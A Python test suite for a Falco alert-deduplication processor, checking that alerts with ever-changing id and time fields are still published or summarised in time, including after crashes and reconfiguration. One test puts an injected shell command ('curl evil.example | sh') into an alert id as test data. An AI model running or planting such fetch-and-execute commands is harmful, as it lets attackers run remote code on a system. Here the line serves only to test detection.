"""Alerts of a source that nobody has configured: none may be hidden by ids and times that differ in each."""

from __future__ import annotations

import random
from typing import Any, Final

import orjson
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from streamer.config import load as load_settings
from streamer.model import Record
from streamer.plan import plan_of
from streamer.transform.load import load
from streamer.transform.process import Processor
from streamer.transform.state import ShardState
from streamer.transform.volatile import MOST_KINDS, ROUND, Kind, Kinds
from tests.unit.transform.samples import NOW_NS, SECOND_NS, START_NS, Feed, alert
from tests.unit.transform.stored import live

RULE: Final = "Audit event of the in-house service"
Fields = dict[str, Any]


class Run:
    """A core under the default settings, changed by flags; a second of the log is one of our clock."""

    def __init__(self, *flags: str) -> None:
        self.plan = plan_of(load_settings(None, flags, {}, require=()), cores=1)
        self.processor = Processor(self.plan, ShardState(self.plan.cluster), b"k" * 16)
        self.live = dict[str, bytes]()
        self.records = list[tuple[float, Record]]()
        self._feed = Feed()

    def take(self, second: float, fields: Fields, **changed: Any) -> bytes:
        """Take one alert; its bytes."""
        passed_ns = round(second * SECOND_NS)
        self.wait(second)
        body = alert(
            START_NS + passed_ns, **{"rule": RULE, "source": "acme", "output_fields": fields} | changed
        )
        self._commit(
            self.processor.process([self._feed.batch((START_NS + passed_ns, body))], NOW_NS + passed_ns),
            second,
        )
        return body

    def wait(self, second: float) -> None:
        """Let our clock run."""
        self._commit(self.processor.publish_due(NOW_NS + round(second * SECOND_NS)), second)

    def _commit(self, publication: Any, second: float) -> None:
        if publication is not None:
            self.live = live(publication.changes, self.live)
            self.records += [(second, record) for record in publication.records]

    def crash(self) -> None:
        self.processor = Processor(self.plan, load(self.plan.cluster, self.live.items()))

    def reconfigure(self, *flags: str, restarts: bool) -> None:
        self.plan = plan_of(load_settings(None, flags, {}, require=()), cores=1)
        if restarts:
            self.crash()
        else:
            self._commit(self.processor.publish_redefined(self.plan, NOW_NS), 0)
            self.processor.replan(self.plan)

    def published(self) -> list[bytes]:
        return [record.value for _, record in self.records if record.topic.startswith("falco.alerts.")]

    def reported(self) -> list[tuple[float, Fields]]:
        """The fields of each variant in summaries, and when it was reported."""
        found = []
        for second, record in self.records:
            if record.topic == "falco.summaries":
                value = orjson.loads(record.value)
                for variant in value["summary"]["variants"]:
                    fields = {**value["output_fields"], **variant["fields"]}
                    found.append((second, {k: v for k, v in fields.items() if v is not None}))
        return found

    def health(self) -> list[Any]:
        values = [orjson.loads(record.value) for _, record in self.records if record.topic == "falco.health"]
        return [value for value in values if value["health"] == "volatile_fields"]


def event(n: int, **more: Any) -> Fields:
    return {
        "acme.id": f"id-{n}",
        "acme.time": START_NS + n,
        "acme.user": "build-bot",
        "acme.action": "read",
    } | more


def busy(run: Run, events: int = 200) -> None:
    for n in range(events):
        run.take(6 * n, event(n))


class TestASourceWithIds:
    def test_publishes_at_once_what_differs_in_any_other_field(self) -> None:
        run = Run()
        matters = set[bytes]()
        for n in range(200):
            if n % 23 == 22:
                matters.add(run.take(2 * n, event(n, **{"acme.action": f"delete audit log {n}"})))
            else:
                run.take(2 * n, event(n))
        assert matters <= set(run.published())

    def test_reports_what_differs_in_its_ids_only_within_70_seconds(self) -> None:
        run = Run()
        busy(run)
        shell = "id-7; curl evil.example | sh"
        run.take(1201, event(1000, **{"acme.id": shell}))
        for second in range(1202, 1272):
            run.wait(second)
        [(when, fields)] = [found for found in run.reported() if found[1]["acme.id"] == shell]
        assert when <= 1201 + 70
        assert fields["acme.time"] == START_NS + 1000

    def test_is_quieter_once_its_ids_are_known(self) -> None:
        run = Run()
        busy(run, 600)
        assert len(run.published()) < ROUND + 20

    def test_publishes_every_alert_of_a_protected_priority(self) -> None:
        run = Run()
        for n in range(100):
            run.take(n, event(n), priority="Critical")
        assert len(run.published()) == 100

    def test_is_reported_once(self) -> None:
        run = Run()
        busy(run)
        [value] = run.health()
        assert (value["source"], value["rule"], value["fields"]) == ("acme", RULE, ["acme.id", "acme.time"])
        assert run.processor.core_status().volatile_fields == {"acme": ["acme.id", "acme.time"]}

    @pytest.mark.parametrize(
        "flag", ["dedupe.group_fields.acme=acme.user", "dedupe.volatile_fields=<default>,acme.id,acme.time"]
    )
    @pytest.mark.parametrize("restarts", [True, False])
    def test_is_not_reported_any_more_once_somebody_has_configured_it(
        self, flag: str, restarts: bool
    ) -> None:
        run = Run()
        busy(run, 50)
        assert run.processor.core_status().volatile_fields
        run.reconfigure(flag, restarts=restarts)
        assert not run.processor.core_status().volatile_fields
        run.wait(500)
        assert not [key for key in run.live if key.startswith("kind/")]

    def test_reports_a_field_once_though_it_alternates(self) -> None:
        run = Run("limits.enabled=false")
        for n in range(10 * ROUND):
            repeats = n // ROUND % 2 == 1
            run.take(n, event(n, **{"acme.id": "same"} if repeats else {}))
            if n % 50 == 0:
                run.crash()
        assert [value["fields"] for value in run.health()] == [["acme.id", "acme.time"]]

    def test_reports_a_field_once_though_many_kinds_rotate(self) -> None:
        run = Run("limits.enabled=false")
        for n in range(2 * (MOST_KINDS + 8) * ROUND):
            run.take(n, event(n), rule=f"rule {n // ROUND % (MOST_KINDS + 8)}")
        assert len(run.health()) == 1

    def test_is_left_alone_once_somebody_has_configured_it(self) -> None:
        run = Run("dedupe.group_fields.acme=acme.user")
        busy(run, 50)
        assert not run.health()
        assert not run.processor.state.tracked[next(iter(run.processor.state.tracked))].kinds.known

    def test_is_decided_alike_after_a_crash(self) -> None:
        straight, crashing = Run(), Run()
        for n in range(150):
            for run in (straight, crashing):
                run.take(6 * n, event(n, **{"acme.user": "root"} if n % 40 == 39 else {}))
            crashing.crash()
        assert crashing.records == straight.records
        assert crashing.live == straight.live


@settings(max_examples=40, deadline=None)
@given(st.integers(0, 10**9))
def test_no_alert_is_hidden_and_no_value_that_is_not_volatile_waits(seed: int) -> None:
    rng, run, second = random.Random(seed), Run("limits.enabled=false"), 0
    ids, users, longest = rng.choice((40, 400, 10**9)), rng.choice(("a", "abc")), rng.choice((0, 2, 30))
    taken = list[tuple[int, bytes, Fields]]()
    for _ in range(rng.randrange(40, 160)):
        for _step in range(rng.randint(0, longest)):
            second += 1
            run.wait(second)
        fields = {
            "acme.user": rng.choice(users),
            "acme.id": str(rng.randrange(ids)),
            "acme.action": rng.choice("xy"),
        }
        taken.append((second, run.take(second, fields), fields))
        if rng.random() < 0.02:
            run.crash()
    for more in range(1, 75):
        run.wait(second + more)
    published, reported = set(run.published()), run.reported()
    kinds = run.processor.state.tracked[next(iter(run.processor.state.tracked))].kinds
    ever = {name for value in run.health() for name in value["fields"]}
    assert set(next(iter(kinds.known.values())).volatile) <= ever
    shown = set[tuple[Any, ...]]()
    for at, body, fields in taken:
        stable = tuple(value for name, value in fields.items() if name not in ever)
        if body in published:
            shown.add(stable)
            continue
        assert stable in shown, "a value that is not volatile was held back"
        was_shown = any(orjson.loads(value)["output_fields"] == fields for value in published)
        assert was_shown or any(found == fields and when <= at + 70 for when, found in reported)


class TestAKind:
    def learned(self, *rounds: list[Fields]) -> Kind:
        kind = Kind("a rule", "acme")
        for each in rounds:
            assert len(each) == ROUND
            for fields in each:
                kind.learn(fields)
        return kind

    def test_has_no_volatile_fields_before_its_first_round_is_over(self) -> None:
        kind = Kind("a rule", "acme")
        assert [kind.learn({"id": n}) for n in range(ROUND)] == [False] * (ROUND - 1) + [True]

    @pytest.mark.parametrize(("distinct", "volatile"), [(28, ()), (29, ("id",))])
    def test_counts_distinct_values(self, distinct: int, volatile: tuple[str, ...]) -> None:
        found = self.learned([{"id": n % distinct, "user": "x"} for n in range(ROUND)])
        assert found.volatile == volatile

    @pytest.mark.parametrize(("distinct", "volatile"), [(15, ()), (16, ("id",))])
    def test_lets_a_field_go_that_repeats_itself(self, distinct: int, volatile: tuple[str, ...]) -> None:
        first = [{"id": n} for n in range(ROUND)]
        assert self.learned(first, [{"id": n % distinct} for n in range(ROUND)]).volatile == volatile

    def test_is_forgotten_after_many_others(self) -> None:
        kinds = Kinds()
        forgotten = [kinds.of(bytes([n]), "a rule", "acme", b"")[1] for n in range(MOST_KINDS + 5)]
        assert len(kinds.known) == MOST_KINDS
        assert forgotten == [None] * MOST_KINDS + [bytes([n]) for n in range(5)]
